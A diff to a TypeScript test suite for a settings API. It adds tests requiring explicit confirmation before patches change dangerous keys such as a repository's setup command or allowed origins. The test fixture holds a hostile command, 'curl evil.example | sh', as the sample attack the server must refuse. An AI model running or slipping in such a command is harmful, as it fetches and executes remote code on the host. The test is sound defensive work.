@@ -72,8 +72,8 @@ const readStoredConfig = (served: CommandProcess) => {
   const { worker: _, ...rest } = JSON.parse(readStoredText(served)) as Record<string, unknown>
   return rest
 }
-const patch = async (served: CommandProcess, change: unknown): Promise<Answer> =>
-  (await served.request('/api/settings', { method: 'PUT', body: { patch: change } })) as Answer
+const patch = async (served: CommandProcess, change: unknown, confirm?: readonly string[]): Promise<Answer> =>
+  (await served.request('/api/settings', { method: 'PUT', body: { patch: change, confirm } })) as Answer
 
 async function expectRefused(served: CommandProcess, change: unknown, reason: RegExp): Promise<void> {
   const before = readStoredText(served)
@@ -91,13 +91,13 @@ describe('rule 1: merging', () => {
     })
     await served.waitForLaunch()
     const answer = await patch(served, {
-      sandbox: { retentionHours: 5, allowedHosts: ['c.example'] },
+      sandbox: { retentionHours: 5, allowedHosts: ['b.example'] },
       repos: { first: { label: 'y' }, second: null, third: { remote: 'o/third' } },
     })
     expect(answer.status).toBe(200)
     expect(readStoredConfig(served)).toEqual({
       server: { port: 0 },
-      sandbox: { concurrency: 3, retentionHours: 5, allowedHosts: ['c.example'] },
+      sandbox: { concurrency: 3, retentionHours: 5, allowedHosts: ['b.example'] },
       repos: { first: { remote: 'o/first', label: 'y' }, third: { remote: 'o/third' } },
     })
   })
@@ -150,6 +150,44 @@ describe('rule 2: the merged result is validated before anything is written', ()
     })
     expect(answer.status).toBe(400)
     expect(readStoredText(served)).toBe(before)
+  })
+})
+
+describe('settings that give power over the machine', () => {
+  const attack = {
+    repos: { web: { remote: 'o/web', setup: 'curl evil.example | sh' } },
+    sandbox: { concurrency: 9 },
+  }
+
+  test('a patch changes none of them unless it names them: 409 with the keys, and the file stays', async () => {
+    const served = await plainHost()
+    const before = readStoredText(served)
+    for (const confirm of [undefined, [], ['repos.web.cloneUrl'], ['repos.web.setup', 'tracker.apiUrl']]) {
+      const answer = await served.request('/api/settings', {
+        method: 'PUT',
+        body: { patch: attack, confirm },
+      })
+      expect(answer).toMatchObject({
+        status: 409,
+        body: { error: expect.stringMatching(/^repos\.web\.setup decides /), confirm: ['repos.web.setup'] },
+      })
+    }
+    expect(readStoredText(served)).toBe(before)
+    expect(await served.request('/api/config')).toMatchObject({ body: { sandbox: { concurrency: 3 } } })
+  })
+
+  test('a patch that names exactly them is applied, and so is an edit of the file', async () => {
+    const served = startHost()
+    await served.waitForLaunch()
+    const body = { patch: attack, confirm: ['repos.web.setup'] }
+    expect(await served.request('/api/settings', { method: 'PUT', body })).toMatchObject({ status: 200 })
+    expect(readStoredConfig(served)).toMatchObject(attack)
+    const edited = { server: { port: 0 }, ...ALONE, repos: { web: { remote: 'o/web', setup: 'make' } } }
+    writeFileSync(join(served.dataDir, 'config.json'), JSON.stringify(edited))
+    await until('the edit is in force', async () => {
+      const { body: config } = await served.request('/api/config')
+      return Object(config).repos?.web?.setup === 'make'
+    })
   })
 })
 
@@ -239,7 +277,6 @@ describe('rule 5: live or restart', () => {
     [{ fleet: { host: '10.0.0.1' } }, 'restart'],
     [{ fleet: { port: 4999 } }, 'restart'],
     [{ sandbox: { concurrency: 9 } }, 'live'],
-    [{ server: { allowedOrigins: ['https://dash.example'] } }, 'live'],
     [{ fleet: { port: 4401 } }, 'live'],
     [{}, 'live'],
   ])('%j is %s', async (change, applied) => {
@@ -254,7 +291,11 @@ describe('rule 5: live or restart', () => {
     const knock = async () =>
       (await fetch(`${url}/api/health`, { headers: { origin: 'https://dash.example' } })).status
     expect(await knock()).toBe(403)
-    await patch(served, { server: { allowedOrigins: ['https://dash.example'] } })
+    const change = { server: { allowedOrigins: ['https://dash.example'] } }
+    expect(await patch(served, change, ['server.allowedOrigins'])).toMatchObject({
+      status: 200,
+      body: { applied: 'live' },
+    })
     expect(await knock()).toBe(200)
   })
 })
